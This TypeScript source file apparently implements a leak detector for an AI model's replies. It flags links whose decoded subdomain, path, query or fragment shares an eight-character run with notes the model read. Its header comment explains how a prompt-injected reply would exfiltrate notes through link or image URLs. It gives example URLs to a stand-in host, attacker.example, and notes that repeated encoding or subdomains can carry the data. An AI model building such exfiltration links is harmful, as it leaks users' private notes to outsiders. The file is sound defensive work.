/**
 * Whether a URL carries text from a note the model had seen (notes-read.ts): the way a prompt-injected reply sends a
 * note out is a link (or an image) whose address holds the note's words, e.g.
 * `https://attacker.example/?d=hunter2-horse`. The URL is decoded the ways a server would read it
 * (percent-encoding, however often; every separator, `+` included, is dropped) and compared with each note's text; a shared run of
 * LEAK_RUN characters (letters and digits, case folded) is enough. Only the host's registrable
 * part (its last two labels) is left out, as a site's own name is no secret; a subdomain can carry
 * one (`hunter2.attacker.example`).
 */

import type { NoteRead } from "./notes-read";

export const LEAK_RUN = 8;

/** The paths of the notes whose text the URL carries, in reading order, each once. */
export function notesInUrl(url: string, reads: readonly NoteRead[]): string[] {
	const carried = fold(carriedText(url));
	const found: string[] = [];
	for (const read of reads) {
		if (found.includes(read.path)) continue;
		const note = foldedText(read);
		for (let i = 0; i + LEAK_RUN <= carried.length; i++) {
			if (note.includes(carried.slice(i, i + LEAK_RUN))) {
				found.push(read.path);
				break;
			}
		}
	}
	return found;
}

/** A note's text folded once: the same reads (notes-read.ts keeps them) are checked for every link of every reply. */
const folded = new WeakMap<NoteRead, string>();
function foldedText(read: NoteRead): string {
	let text = folded.get(read);
	// Stryker disable next-line ConditionalExpression: a cache only; folding the same text again gives the same text
	if (text === undefined) {
		text = fold(read.text);
		folded.set(read, text);
	}
	return text;
}

/** Everything in the URL but its scheme and registrable host, decoded. */
function carriedText(url: string): string {
	let parsed: URL;
	try {
		parsed = new URL(url);
	} catch {
		return decode(url);
	}
	// The subdomain: every label but the last two (none of a one- or two-label host).
	const sub = parsed.hostname.split(".").slice(0, -2);
	// Stryker disable next-line StringLiteral: fold() drops every separator, so what joins the parts never shows
	return [
		...sub,
		parsed.username,
		parsed.password,
		decode(parsed.pathname),
		decode(parsed.search),
		decode(parsed.hash),
	].join(" ");
}

/**
 * Decoded until decoding changes nothing: an address can be encoded any number of times to slip
 * past a fixed number of decodings, and its server can decode as often as it likes. (Each
 * decoding that changes the text shortens it, so this ends.)
 */
function decode(text: string): string {
	let out = text;
	for (;;) {
		let next: string;
		try {
			next = decodeURIComponent(out);
		} catch {
			return out;
		}
		if (next === out) return out;
		out = next;
	}
}

/** Runs of letters and digits only, lower case: separators are where an encoding differs most. */
function fold(text: string): string {
	return text
		.normalize("NFKC")
		.toLowerCase()
		.replace(/[^\p{L}\p{N}]/gu, "");
}
